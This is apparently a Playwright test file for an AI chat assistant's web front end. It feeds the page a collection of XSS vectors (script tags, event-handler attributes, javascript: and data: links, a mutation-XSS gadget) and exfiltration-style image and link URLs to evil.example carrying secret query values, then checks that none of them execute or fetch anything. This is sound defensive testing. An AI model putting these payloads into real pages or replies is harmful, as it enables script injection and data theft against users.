"""What a model may write to attack the page: nothing runs, nothing is loaded, nothing leaves."""

from __future__ import annotations

import pytest
from playwright.async_api import Page, expect

from tests.browser.acts import answered, ask, last_answer
from tests.fake_provider import FakeProvider

pytestmark = [pytest.mark.browser, pytest.mark.once, pytest.mark.asyncio(loop_scope="session")]

VECTORS = """
<script>window.hacked = 1</script>

<img src="https://evil.example/a.png" onerror="window.hacked = 1">

<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>

<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>

<style>body { background: url(https://evil.example/b.png) }</style>

<form action="https://evil.example/"><button>Go</button></form>

![pixel](https://evil.example/c.png?secret=42) ![](data:image/svg+xml,<svg onload=alert(1)>)

[click](javascript:window.hacked=1) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)

[a](<javascript:window.hacked=1>) [b](java&#115;cript:window.hacked=1) [c](JaVaScRiPt:window.hacked=1)

[tracker](https://evil.example/collect?d=secret) <https://evil.example/auto>

`<img src=x onerror=window.hacked=1>`

```html
<script>window.hacked = 1</script>
```

```"><script>window.hacked=1</script>
x
```

<a href="javascript:window.hacked=1" onclick="window.hacked=1">link</a>

<p id="message" class="send" style="position:fixed">id</p>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">

| a | b |
|---|---|
| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |

[ref]: javascript:window.hacked=1

[ref]
"""


async def test_hostile_markdown_runs_nothing_and_requests_nothing(page: Page, fake_provider: FakeProvider) -> None:
    fake_provider.reply(VECTORS)
    await ask(page, "Attack")
    await answered(page)
    answer = last_answer(page)
    await expect(answer).to_contain_text("window.hacked")
    assert await page.evaluate("window.hacked") is None
    for tag in ("script", "img", "svg", "iframe", "style", "form", "math", "[id]", "[onclick]", "[onerror]"):
        await expect(answer.locator(tag)).to_have_count(0)
    # The page itself keeps the columns of a table that it draws before it is whole.
    await expect(answer.locator("[style]:not(table, thead th)")).to_have_count(0)
    styles = await answer.locator("[style]").evaluate_all("styled => styled.flatMap(one => [...one.style])")
    assert {*styles} <= {"width", "table-layout"}
    hrefs = await answer.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(hrefs) == {"https:"}


async def test_a_link_shows_where_it_leads_and_tells_nothing(page: Page, fake_provider: FakeProvider) -> None:
    fake_provider.reply("[Your invoice](https://evil.example/collect?d=secret)")
    await ask(page, "Invoice")
    await answered(page)
    link = last_answer(page).get_by_role("link")
    await expect(last_answer(page)).to_have_text("Your invoice (evil.example)")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("title", "https://evil.example/collect?d=secret")


async def test_hostile_tool_results_and_titles_are_only_text(page: Page, fake_provider: FakeProvider) -> None:
    fake_provider.call("calculate", {"expression": "<img src=x onerror=window.hacked=1>"})
    fake_provider.reply("Done.")
    await ask(page, "<img src=x onerror=window.hacked=1>")
    await answered(page)
    await page.locator(".tool summary").click()
    await page.reload()
    await expect(last_answer(page)).to_have_text("Done.")
    assert await page.evaluate("window.hacked") is None
    await expect(page.locator("#transcript img, #conversations img, h1 img")).to_have_count(0)


async def test_a_file_is_requested_from_this_site_only(page: Page) -> None:
    shown = """async (urls) => {
        const { mediaShown } = await import("/static/assistant/js/media.js");
        const file = { name: "a.png", mediaType: "image/png", size: 1 };
        return urls.map((url) => mediaShown({ ...file, url }).querySelector("img") !== null);
    }"""
    foreign = ["//evil.example/a.png", "/\\evil.example/a.png", "/\t/evil.example/a.png", "https://evil.example/a.png"]
    assert (
        await page.evaluate(shown, ["/t/acme/files/1", *foreign, "data:image/png,x", "//[", None])
        == [True] + [False] * 7
    )
